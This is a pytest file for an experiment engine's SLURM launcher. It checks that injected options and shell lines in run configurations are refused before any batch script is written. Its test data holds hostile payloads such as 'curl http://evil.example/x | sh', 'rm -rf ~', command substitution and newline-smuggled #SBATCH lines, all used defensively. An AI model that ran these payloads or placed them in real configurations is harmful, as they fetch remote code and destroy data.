"""What reaches a SLURM batch script: only allow-listed, validated options from a run
configuration; shell lines only from the site launcher file. Scripts are rendered with submitit's
own script writer (no cluster needed); injection payloads never get that far."""

from __future__ import annotations

import os

import pytest

from engine.config import ConfigError, ExperimentConfig
from engine.launch import sbatch
from engine.launch.slurm import SlurmLauncher, _executor_parameters
from engine.runs import RunStore

PAYLOADS = [
    ({"setup": ["touch /tmp/pwned; curl http://evil.example/x | sh"]}, "site launcher configuration"),
    ({"setup": "touch /tmp/pwned"}, "site launcher configuration"),
    ({"teardown": ["rm -rf ~"]}, "site launcher configuration"),
    ({"srun_args": ["--export=ALL", "bash -c id"]}, "site launcher configuration"),
    ({"use_srun": False}, "site launcher configuration"),
    ({"comment": "ok\n#SBATCH --wrap=touch /tmp/pwned"}, "newline"),
    ({"comment": "ok\rcurl x | sh"}, "newline"),
    ({"comment": "$(touch /tmp/pwned)"}, "characters allowed"),
    ({"comment": "a`id`"}, "characters allowed"),
    ({"wrap": "touch /tmp/pwned"}, "not an accepted sbatch option"),
    ({"--output": "/etc/cron.d/x"}, "not an accepted sbatch option"),
    ({"chdir": "/"}, "not an accepted sbatch option"),
    ({"dependency": "afterok:1; touch /tmp/pwned"}, "dependency such as"),
    ({"constraint": "a100\nrm"}, "newline"),
    ({"mail_user": "a@b.c'; id #"}, "e-mail"),
    ({"mail_type": "ALL,EVIL"}, "accepted: a comma-separated list"),
    ({"exclusive": "yes; id"}, "expected true or false"),
    ({"signal_delay_s": "90; id"}, "integer from 10 to 3600"),
    ({"max_num_timeout": 10**9}, "integer from 0 to 100"),
    ({"gres": "gpu:1 --wrap=id"}, "generic resources"),
]


@pytest.mark.parametrize("extra, match", PAYLOADS, ids=[str(sorted(p[0]))[:40] + str(i) for i, p in enumerate(PAYLOADS)])
def test_injection_payloads_are_refused_and_nothing_is_written(tmp_path, tiny_config, extra, match):
    with pytest.raises(ConfigError, match=match):  # refused as read (shell keys, newlines) or validated
        tiny_config.replace(launch={"launcher": "slurm", "extra": extra}).validate()
    # The same payload in a run folder written behind validation's back (an old run, a hand edit):
    # the launcher refuses it before a script or a status change exists.
    import dataclasses

    cfg = dataclasses.replace(tiny_config, launch=dataclasses.replace(tiny_config.launch, launcher="slurm", extra=extra))
    store = RunStore(tmp_path / "runs")
    run = store.create(cfg)
    before = run.status_path.read_text()
    with pytest.raises(ConfigError, match=match):
        SlurmLauncher().start(run)
    assert not (run.path / "slurm").exists()
    assert not [p for p in tmp_path.rglob("*") if p.suffix == ".sh"]
    assert run.status_path.read_text() == before
    assert not os.path.exists("/tmp/pwned")


@pytest.mark.parametrize("field, value", [
    ("partition", "debug\n#SBATCH --wrap=id"), ("account", "a b"), ("qos", "normal;id"), ("partition", "x" * 65),
])
def test_partition_account_qos_must_be_slurm_names(tiny_config, field, value):
    with pytest.raises(ConfigError, match=f"launch.{field}=.*(expected a SLURM name|newline)"):
        tiny_config.replace(launch={"launcher": "slurm", field: value}).validate()


def test_a_yaml_upload_with_setup_lines_is_refused():
    text = ("name: evil\nlaunch:\n  launcher: slurm\n  extra:\n    setup: ['touch /tmp/pwned; curl x | sh']\n")
    with pytest.raises(ConfigError, match=r"launch.extra.setup is not accepted in a run configuration.*"
                                          r"FINESCALE_SITE_CONFIG"):
        ExperimentConfig.from_yaml(text).validate()


def _script(cfg, run) -> str:
    from submitit.slurm.slurm import _make_sbatch_string

    params, _ = _executor_parameters(cfg, run)
    return _make_sbatch_string(command="python -m submitit.core._submit X", folder=run.path / "slurm", **params)


def test_accepted_options_are_quoted_one_per_line(tmp_path, tiny_config, monkeypatch):
    monkeypatch.setenv("FINESCALE_SITE_CONFIG", str(tmp_path / "absent.yaml"))
    cfg = tiny_config.replace(launch={"launcher": "slurm", "partition": "debug", "extra": {
        "comment": "course run 3", "constraint": "a100&ib", "reservation": "course", "mail_type": "END,FAIL",
        "exclude": "node[01-04]", "max_num_timeout": 2}}).validate()
    run = RunStore(tmp_path / "runs").create(cfg)
    script = _script(cfg, run)
    lines = script.splitlines()
    assert "#SBATCH --comment='course run 3'" in lines
    assert "#SBATCH --constraint='a100&ib'" in lines
    assert "#SBATCH --reservation=course" in lines
    assert "#SBATCH --exclude='node[01-04]'" in lines
    assert "#SBATCH --partition=debug" in lines
    # submitit's own two lines are the only shell: no setup without a site file
    body = [ln for ln in lines if ln and not ln.startswith("#")]
    assert body[0] == "export SUBMITIT_EXECUTOR=slurm" and body[1].startswith("srun ") and len(body) == 2, body


def test_setup_lines_come_from_the_site_file(tmp_path, tiny_config, monkeypatch):
    site = tmp_path / "launcher.yaml"
    site.write_text("setup:\n  - module load cuda/12.1\nsbatch:\n  reservation: course\n")
    site.chmod(0o644)
    monkeypatch.setenv("FINESCALE_SITE_CONFIG", str(site))
    cfg = tiny_config.replace(launch={"launcher": "slurm"}).validate()
    run = RunStore(tmp_path / "runs").create(cfg)
    script = _script(cfg, run)
    assert "module load cuda/12.1" in script.splitlines()
    assert "#SBATCH --reservation=course" in script.splitlines()


def test_a_multi_task_job_meets_on_a_free_port_and_ends_when_a_rank_fails(tmp_path, tiny_config, monkeypatch):
    """A DDP job's ranks meet at MASTER_PORT: the batch script asks the kernel for a free port on
    the first node (submitit's job-id port lies in the ephemeral range and was seen in use), after
    the site's own setup lines; srun ends the step when one rank fails instead of leaving the others
    waiting until the time limit. A one-task job gets neither."""
    import socket
    import subprocess

    site = tmp_path / "launcher.yaml"
    site.write_text("setup:\n  - module load cuda/12.1\n")
    site.chmod(0o644)
    monkeypatch.setenv("FINESCALE_SITE_CONFIG", str(site))
    cfg = tiny_config.replace(launch={"launcher": "slurm", "tasks_per_node": 2}).validate()
    run = RunStore(tmp_path / "runs").create(cfg)
    lines = _script(cfg, run).splitlines()
    port_line = next(ln for ln in lines if ln.startswith("export MASTER_PORT="))
    assert lines.index("module load cuda/12.1") < lines.index(port_line)
    srun = next(ln for ln in lines if ln.startswith("srun "))
    assert "--kill-on-bad-exit=1" in srun.split()
    # the line itself, run by a shell, exports a port that can be bound
    out = subprocess.run(["bash", "-c", f"{port_line}; echo $MASTER_PORT"], capture_output=True, text=True, check=True)
    port = int(out.stdout.strip())
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", port))
    single = tiny_config.replace(launch={"launcher": "slurm"}).validate()
    script = _script(single, RunStore(tmp_path / "one").create(single))
    assert "MASTER_PORT" not in script and "--kill-on-bad-exit" not in script


@pytest.mark.parametrize("text, mode, match", [
    ("setup: ['id']\n", 0o666, "writable by group or others"),
    ('setup: ["id\\nrm -rf /"]\n', 0o644, "newline"),
    ("setup: [\n", 0o644, "line 2 is not valid YAML"),
    ("prolog: ['id']\n", 0o644, "unknown keys \\['prolog'\\]; accepted: setup, teardown, srun_args, sbatch"),
    ("setup: {a: 1}\n", 0o644, "setup must be a list of strings"),
])
def test_a_bad_site_file_is_refused(tmp_path, text, mode, match):
    site = tmp_path / "launcher.yaml"
    site.write_text(text)
    site.chmod(mode)
    with pytest.raises(ConfigError, match=match):
        sbatch.load_site_config(site)


def test_the_default_site_file_is_in_etc(monkeypatch):
    monkeypatch.delenv("FINESCALE_SITE_CONFIG", raising=False)
    assert str(sbatch.site_config_path()) == "/etc/finescale/launcher.yaml"
